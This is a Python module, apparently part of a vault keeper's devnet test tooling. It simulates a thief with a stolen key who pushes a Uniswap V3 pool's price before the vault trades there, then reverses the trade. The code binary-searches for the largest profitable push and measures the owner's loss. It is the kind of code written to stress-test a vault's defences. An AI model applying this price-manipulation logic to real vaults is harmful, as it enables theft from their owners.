"""The thief's own money: it pushes a pool before the vault trades there, and takes itself back afterwards.

What a push would do to the vault is tried first, both calls in one simulated block, so that nothing fails in the open.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from keeper.devnet.book import Book, Token
from keeper.devnet.calls import encode_call
from keeper.devnet.kit import Chain
from keeper.manifest import Manifest, RouteRecord

_SWAP = "exactInputSingle((address,address,uint24,address,uint256,uint256,uint160))"
_HALVINGS = 12
"""How finely the largest push is looked for: to a 4096th of the thief's money."""
_GAS = hex(15_000_000)
_FEE_BYTES, _ADDRESS_BYTES = 3, 20


@dataclass(frozen=True, slots=True)
class Push:
    """Selling `sell` for `buy` in the V3 pool of `fee`, as the vault is about to: what it gets becomes less."""

    sell: Token
    buy: Token
    fee: int

    @property
    def label(self) -> str:
        """As people say it."""
        return f"{self.sell.symbol}/{self.buy.symbol} {self.fee}"


@dataclass(frozen=True, slots=True)
class Run:
    """What the vault's call came to behind a push: what it returned, and its logs."""

    returned: str
    logs: tuple[dict[str, Any], ...]


Judge = Callable[[Run], int | None]
"""What a run costs the owner, in any unit; None where it is not what was wanted."""


class Capital:
    """The account `owner` of the chain, with what it holds."""

    def __init__(self, chain: Chain, book: Book, owner: str, vault: str, key: str) -> None:
        self._chain = chain
        self._owner = owner
        self._vault = vault
        self._key = key
        self._router = book.contracts["swap_router_02"]

    def balance(self, token: Token) -> int:
        """Base units of a token that are there to push with."""
        return int(self._chain.read(token.address, "balanceOf(address)", "uint256", self._owner))

    def trial(self, push: Push | None, amount: int, data: str) -> Run | None:
        """The stolen key's call to the vault right after a push; None where either reverts."""
        calls = [{"from": self._key, "to": self._vault, "data": data, "gas": _GAS}]
        if push is not None and amount:
            swap = {"from": self._owner, "to": self._router, "data": self._swap(push, amount), "gas": _GAS}
            calls.insert(0, swap)
        then = {"time": hex(self._chain.now() + 1)}
        asked = {"blockStateCalls": [{"blockOverrides": then, "calls": calls}], "validation": False}
        found = self._chain.rpc("eth_simulateV1", asked, "latest")[0]["calls"]
        if any(int(call["status"], 16) != 1 for call in found):
            return None
        return Run(found[-1]["returnData"], tuple(found[-1].get("logs", ())))

    def most(self, push: Push, data: str, judge: Judge) -> tuple[int, int] | None:
        """The largest push behind which the call still goes through, and what it costs the owner; None for none."""
        low, high = 0, self.balance(push.sell)
        best: tuple[int, int] | None = None
        for _ in range(_HALVINGS):
            middle = (low + high) // 2
            run = self.trial(push, middle, data)
            cost = None if run is None else judge(run)
            if cost is None:
                high = middle
            else:
                best, low = (middle, cost), middle
        return best

    def push(self, push: Push, amount: int) -> int:
        """Do it; returns the base units bought, with which it is undone."""
        before = self.balance(push.buy)
        self._chain.transact(self._router, self._swap(push, amount), sender=self._owner)
        return self.balance(push.buy) - before

    def undo(self, push: Push, bought: int) -> None:
        """Sell back what a push bought."""
        back = Push(push.buy, push.sell, push.fee)
        self._chain.transact(self._router, self._swap(back, bought), sender=self._owner)

    def _swap(self, push: Push, amount: int) -> str:
        return encode_call(_SWAP, (push.sell.address, push.buy.address, push.fee, self._owner, amount, 0, 0))


def pushes(book: Book, manifest: Manifest, route: RouteRecord) -> tuple[Push, ...]:
    """The V3 pools that a route leads through, as pushes in its direction; none for a route of another kind."""
    known = {token.address.lower(): token for token in book.tokens.values()}
    kinds = {part.address.lower(): part.contract for part in manifest.parts.adapters.values()}
    data = bytes.fromhex(route.data.removeprefix("0x"))
    match kinds.get(route.adapter.lower()):
        case "V3PoolAdapter":
            tokens = [known[manifest.assets[index].token.lower()] for index in (route.asset_in, route.asset_out)]
            return (Push(tokens[0], tokens[1], int.from_bytes(data)),)
        case "SwapRouter02Adapter":
            return _hops(known, data)
    return ()


def _hops(known: dict[str, Token], path: bytes) -> tuple[Push, ...]:
    """A router's packed path: token, fee, token, fee, …"""
    found, start, step = [], 0, _ADDRESS_BYTES + _FEE_BYTES
    while start + step < len(path):
        sell, buy = (known["0x" + path[at : at + _ADDRESS_BYTES].hex()] for at in (start, start + step))
        found.append(Push(sell, buy, int.from_bytes(path[start + _ADDRESS_BYTES : start + step])))
        start += step
    return tuple(found)
